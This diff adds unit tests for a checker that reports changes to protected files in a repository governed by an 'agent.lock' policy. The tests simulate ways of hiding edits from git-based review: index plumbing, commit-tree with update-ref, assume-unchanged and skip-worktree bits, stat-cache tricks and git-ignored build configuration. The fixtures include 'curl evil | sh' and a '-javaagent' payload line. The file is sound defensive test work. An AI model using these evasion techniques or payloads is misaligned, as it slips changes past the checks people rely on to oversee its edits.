@@ -123,4 +123,147 @@ class ChangedPathsTest {
                 () -> ChangedPaths.find(policy, upstream.dir, "main", false, false, "--changed "));
         assertTrue(e.getMessage().contains("does not contain"), e.getMessage());
     }
+
+    // ---- what the branch would carry, whatever the index says ----
+
+    /** A repository whose policy protects the CI workflow, and nothing under .mvn/. */
+    GitRepo workflowRepo() throws Exception {
+        return workflowRepo("wf");
+    }
+
+    GitRepo workflowRepo(String name) throws Exception {
+        Path dir = Files.createDirectories(tmp.toRealPath().resolve(name));
+        return GitRepo.init(dir)
+                .write("agent.lock", "version: 1\nprotect:\n  - .github/workflows/\n")
+                .write(".github/workflows/ci.yml", "run: safe\n")
+                .write("src/app.txt", "app\n")
+                .commitAll("base");
+    }
+
+    static PolicySet policyOf(GitRepo r) throws Exception {
+        return PolicySet.explicit(PolicyLoader.load(r.dir.resolve("agent.lock")));
+    }
+
+    static ChangedPaths.Finding only(ChangedPaths.Result r) {
+        assertEquals(1, r.findings().size(), r.findings().toString());
+        return r.findings().get(0);
+    }
+
+    /**
+     * The attack seen inside a run: the protected file on disk never changes, the blob goes into git's objects, the
+     * index names it (update-index --cacheinfo) and a commit records it. Before the fix --changed compared the work
+     * tree (unchanged) with the base and passed.
+     */
+    @Test
+    void aBlobPutInTheIndexWithPlumbingAndCommittedIsReported() throws Exception {
+        GitRepo r = workflowRepo();
+        PolicySet p = policyOf(r);
+        String id = r.git("hash-object", "-w", r.write("evil.tmp", "run: curl evil | sh\n")
+                .dir.resolve("evil.tmp").toString()).trim();
+        Files.delete(r.dir.resolve("evil.tmp"));
+        r.git("update-index", "--cacheinfo", "100644," + id + ",.github/workflows/ci.yml");
+        ChangedPaths.Finding staged = only(ChangedPaths.find(p, r.dir, null, true, false, "--changed "));
+        assertEquals(List.of(ChangedPaths.INDEX), staged.where());
+        ChangedPaths.Finding before = only(ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed "));
+        assertEquals(".github/workflows/ci.yml", before.path());
+        assertTrue(before.where().contains(ChangedPaths.INDEX), before.toString());
+        r.git("commit", "-qm", "innocent");
+        assertEquals("run: safe\n", Files.readString(r.dir.resolve(".github/workflows/ci.yml")));
+        ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, "HEAD~1", false, false, "--changed "));
+        assertEquals(".github/workflows/ci.yml", f.path());
+        assertEquals("M", f.status());
+        assertEquals(ChangedPaths.COMMITS, f.where().get(0), f.toString());
+        assertTrue(!f.rules().isEmpty(), f.toString());
+    }
+
+    /** A commit made without the index at all: a tree written from a temporary index, commit-tree, update-ref. */
+    @Test
+    void aCommitMadeWithCommitTreeAndUpdateRefIsReported() throws Exception {
+        GitRepo r = workflowRepo();
+        PolicySet p = policyOf(r);
+        String id = r.git("hash-object", "-w", r.write("evil.tmp", "run: evil\n").dir.resolve("evil.tmp").toString())
+                .trim();
+        Files.delete(r.dir.resolve("evil.tmp"));
+        java.util.Map<String, String> env = java.util.Map.of("GIT_INDEX_FILE", tmp.toRealPath().resolve("other.index")
+                .toString());
+        r.gitWith(env, "read-tree", "HEAD");
+        r.gitWith(env, "update-index", "--cacheinfo", "100644," + id + ",.github/workflows/ci.yml");
+        String tree = r.gitWith(env, "write-tree").trim();
+        String commit = r.git("commit-tree", tree, "-p", "HEAD", "-m", "innocent").trim();
+        r.git("update-ref", "refs/heads/main", commit);
+        ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, "HEAD~1", false, false, "--changed "));
+        assertEquals(".github/workflows/ci.yml", f.path());
+        assertTrue(f.where().contains(ChangedPaths.COMMITS), f.toString());
+        // the index still holds the old blob: the next commit would revert it, which is a change to HEAD too
+        assertTrue(f.where().contains(ChangedPaths.INDEX), f.toString());
+    }
+
+    /** An edit on disk hidden from git diff by an index bit: assume-unchanged, skip-worktree. */
+    @Test
+    void anEditHiddenByAssumeUnchangedOrSkipWorktreeIsReported() throws Exception {
+        for (String bit : List.of("--assume-unchanged", "--skip-worktree")) {
+            GitRepo r = workflowRepo(bit.substring(2));
+            PolicySet p = policyOf(r);
+            r.git("update-index", bit, ".github/workflows/ci.yml");
+            r.write(".github/workflows/ci.yml", "run: evil edited on disk\n");
+            assertEquals("", r.git("diff", "--name-status", "HEAD"), "git itself does not see it (" + bit + ")");
+            ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed "));
+            assertEquals(".github/workflows/ci.yml", f.path(), bit);
+            assertEquals("M", f.status(), bit);
+            assertEquals(List.of(ChangedPaths.WORKTREE), f.where(), bit);
+            Files.delete(r.dir.resolve(".github/workflows/ci.yml"));
+            ChangedPaths.Result gone = ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed ");
+            if (bit.equals("--assume-unchanged")) {
+                assertEquals("D", only(gone).status());
+            } else { // sparse checkout leaves skip-worktree files absent: not a change
+                assertEquals(List.of(), paths(gone));
+            }
+        }
+    }
+
+    /** An edit of the same size with the old mtime, and a configuration that stops git looking at ctime and inode. */
+    @Test
+    void anEditTheStatCacheDoesNotSeeIsReported() throws Exception {
+        GitRepo r = workflowRepo();
+        PolicySet p = policyOf(r);
+        Path ci = r.dir.resolve(".github/workflows/ci.yml");
+        java.nio.file.attribute.FileTime old = java.nio.file.attribute.FileTime.fromMillis(1_600_000_000_000L);
+        Files.setLastModifiedTime(ci, old);
+        r.git("config", "core.trustctime", "false");
+        r.git("config", "core.checkStat", "minimal");
+        r.git("update-index", "--refresh");
+        Files.writeString(ci, "run: EVIL\n"); // the same size
+        Files.setLastModifiedTime(ci, old);
+        assertEquals("", r.git("diff", "--name-status", "HEAD"), "git itself does not see it");
+        assertEquals(List.of(".github/workflows/ci.yml"),
+                paths(ChangedPaths.find(p, r.dir, "HEAD", false, false, "--changed ")));
+    }
+
+    /**
+     * Code-running configuration is reported whether or not a rule protects it, and even when git ignores it (here
+     * through .git/info/exclude, so git status shows nothing); an ignored build output is not.
+     */
+    @Test
+    void ignoredCodeRunningConfigurationIsReportedAndIgnoredBuildOutputIsNot() throws Exception {
+        GitRepo r = workflowRepo();
+        PolicySet p = policyOf(r);
+        Files.writeString(r.dir.resolve(".git/info/exclude"), ".mvn/\ntarget/\n");
+        r.write(".mvn/jvm.config", "-javaagent:/tmp/evil.jar\n");
+        r.write("target/x.class", "cafebabe\n");
+        assertEquals("", r.git("status", "--porcelain"));
+        for (boolean staged : List.of(false, true)) {
+            ChangedPaths.Finding f = only(ChangedPaths.find(p, r.dir, staged ? null : "HEAD", staged, false,
+                    "--changed "));
+            assertEquals(".mvn/jvm.config", f.path());
+            assertEquals("A", f.status());
+            assertEquals(List.of(ChangedPaths.IGNORED), f.where());
+            assertEquals(List.of(), f.rules());
+            assertTrue(f.codeRunning().contains("-javaagent"), f.codeRunning());
+        }
+        // tracked and changed in a commit, unprotected by agent.lock: reported as code-running configuration too
+        Files.writeString(r.dir.resolve(".git/info/exclude"), "target/\n");
+        r.commitAll("mvn options");
+        ChangedPaths.Finding committed = only(ChangedPaths.find(p, r.dir, "HEAD~1", false, false, "--changed "));
+        assertEquals(List.of(ChangedPaths.COMMITS), committed.where());
+    }
 }
